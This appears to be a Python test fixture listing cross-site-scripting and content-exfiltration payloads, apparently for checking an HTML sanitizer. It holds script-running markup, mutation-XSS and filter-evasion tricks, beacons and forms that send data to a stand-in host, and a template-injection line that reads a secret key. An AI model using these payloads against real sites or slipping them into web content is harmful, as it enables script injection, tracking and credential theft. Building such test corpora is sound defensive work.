"""What strangers try: markup that runs script, asks another server, or leads away. Written for these tests.

`RUN` stands for a statement that betrays itself to the top window, `SPY` for an address of somebody else.
"""

from __future__ import annotations

SPY = "spy.example"

# Does something by itself in an unprotected page of today's Chromium.
RUNS = (
    "<script>RUN</script>",
    "<ScRiPt\n>RUN</sCrIpT\t>",
    '<script type="module">RUN</script>',
    "<img src=x: onerror=RUN>",
    '<img src="x:" OnErRoR = "RUN">',
    '<img/src="x:"/onerror=RUN>',
    "<img src=x: onerror=&#116;op&period;pwned=NUMBER>",
    "<svg onload=RUN>",
    "<svg/onload=RUN//",
    "<svg><script>RUN</script></svg>",
    '<svg><script href="data:text/javascript,RUN"></script></svg>',
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<body onload=RUN>",
    "<details open ontoggle=RUN>x</details>",
    "<video><source src=x: onerror=RUN></video>",
    "<audio src=x: onerror=RUN></audio>",
    "<link rel=stylesheet href=x: onerror=RUN>",
    "<style onload=RUN></style>",
    "<iframe onload=RUN></iframe>",
    '<iframe srcdoc="<script>RUN</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x: onerror=RUN&gt;"></iframe>',
    '<iframe src="javascript:RUN"></iframe>',
    "<style>@keyframes p{}</style><b style='animation:p 1ms' onanimationstart=RUN>x</b>",
    "<b style='transition:color 1ms' ontransitionend=RUN>x</b><style>b{animation:q 1ms}@keyframes q{}</style>"
    "<u style='animation:q 1ms' onanimationend=RUN>x</u>",
    '<noscript><p title="</noscript><img src=x: onerror=RUN>">',
    "<div><template shadowrootmode=open><img src=x: onerror=RUN></template></div>",
    "<textarea></textarea><img src=x: onerror=RUN><textarea>",
    "<title></title><img src=x: onerror=RUN>",
    "<xmp></xmp><img src=x: onerror=RUN>",
    "<!--><img src=x: onerror=RUN>-->",
    "<![CDATA[><img src=x: onerror=RUN>]]>",
    "<?xml-stylesheet ><img src=x: onerror=RUN>?>",
    "<svg><style><img src=x: onerror=RUN></style></svg>",
    "<svg><foreignObject><img src=x: onerror=RUN></foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x: onerror=RUN></annotation-xml></math>",
    "<select><template></template></select><img src=x: onerror=RUN>",
    "</textarea></title></style></script></noscript><script>RUN</script>",
    '"><img src=x: onerror=RUN>',
    "'><svg/onload=RUN>",
    "\" autofocus='' ><img src=x: onerror='RUN'>",
    "--><script>RUN</script><!--",
    "<a\n\tid=x\f><img src=x:\fonerror=RUN></a>",
    '<svg></p><style><a id="</style><img src=x: onerror=RUN>">',
    'javascript:RUN https://HOST/"onmouseover=RUN// mailto:a@b.example?x="><script>RUN</script>',
    "data:image/svg+xml,<svg onload=RUN>",
)

# Asks a foreign server, or goes there, as soon as it is shown.
ASKS = (
    "<img src=SPY>",
    "<img src=//HOST width=1 height=1>",
    '<img srcset="SPY 1x">',
    "<picture><source srcset=SPY><img></picture>",
    "<input type=image src=SPY>",
    "<table background=SPY><tr><td>x</table>",
    "<body background=SPY>",
    "<video poster=SPY></video>",
    "<audio autoplay src=SPY></audio>",
    "<svg><image href=SPY width=9 height=9 /></svg>",
    "<svg><filter id=f><feImage href=SPY /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
    "<script src=SPY></script>",
    "<link rel=stylesheet href=SPY>",
    "<link rel=icon href=SPY><link rel=preload as=image href=SPY>",
    "<link rel=prefetch href=SPY>",
    "<link rel=modulepreload href=SPY>",
    "<style>@import 'SPY';</style>",
    "<style>body{background:url(SPY)}</style>",
    "<style>@font-face{font-family:f;src:url(SPY)}b{font-family:f}</style><b>x</b>",
    '<div style="background:url(SPY)">x</div>',
    "<div style=\"background:\\75\\72\\6c('SPY')\">x</div>",
    "<div style=\"background-image:image-set('SPY' 1x)\">x</div>",
    "<ul style=\"list-style:url(SPY)\"><li>x</ul>",
    "<b style='content:url(SPY)'>x</b>",
    "<b style='cursor:url(SPY),auto;border-image:url(SPY) 9;border-style:solid'>x</b>",
    "<iframe src=SPY></iframe>",
    "<object data=SPY></object>",
    "<embed src=SPY>",
    '<iframe src="data:text/html,<img src=SPY>"></iframe>',
    "<base href=//HOST/><img src=beacon>",
    '<meta http-equiv=refresh content="0;url=SPY">',
    '<meta http-equiv="refresh" content="0; SPY">',
)  # fmt: skip

# Waits for a click, for a library, for an older browser or for a careless filter.
WAITS = (
    '<a href="javascript:RUN">click</a>',
    '<a href=" &#1;java&Tab;script&colon;RUN">click</a>',
    '<a href="JaVaScRiPt:RUN" target=_self>click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:RUN">click</a>',
    '<svg><a xlink:href="javascript:RUN"><text y=9>click</text></a></svg>',
    "<math><mi xlink:href='javascript:RUN'>click</mi></math>",
    "<a href=# ping=SPY>click</a>",
    "<form action=SPY><input name=password><button>go</button></form>",
    "<form id=f></form><button form=f formaction='javascript:RUN'>go</button>",
    "<isindex action=javascript:RUN type=submit>",
    "<button popovertarget=p>go</button><p popover id=p onbeforetoggle=RUN>x</p>",
    '<map name=m><area href="javascript:RUN" shape=default></map><img usemap=#m>',
    "<template><script>RUN</script></template>",
    "<p style=\"width:expression(RUN);behavior:url(SPY);-moz-binding:url(SPY)\">x</p>",
    "<div hx-get=SPY hx-trigger=load hx-on::load=RUN data-hx-on:click=RUN>x</div>",
    "{{constructor.constructor('RUN')()}}{% debug %}{{ settings.SECRET_KEY }}",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x: onerror=RUN&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "<scr\u200bipt>RUN</scr\u200bipt><\u017fcript>RUN</\u017fcript>",
    "\u202e>tpircs/<NUR>tpircs<\u202c<img\u00a0src=x: onerror=RUN>",
    "<object data=x: onerror=RUN></object>",
    '<object data="javascript:RUN"></object>',
    '<embed src="javascript:RUN">',
    "<marquee onstart=RUN>x</marquee>",
    "<math><mtext><style><img src=x: onerror=RUN></style></mtext></math>",
    "<portal src=SPY></portal><fencedframe></fencedframe><keygen autofocus onfocus=RUN>",
    "<div id=desk><a name=body href=x:></a><form id=main><input name=attributes></form></div>",
)  # fmt: skip

RAW = (*RUNS, *ASKS, *WAITS)


def payload(number: int) -> str:
    """The payload with its own mark: what it does says which one did it."""
    host = f"{SPY}/{number}"
    marked = RAW[number].replace("NUMBER", str(number)).replace("RUN", f"top.pwned={number}")
    return marked.replace("SPY", f"https://{host}").replace("HOST", host)


PAYLOADS = tuple(payload(number) for number in range(len(RAW)))
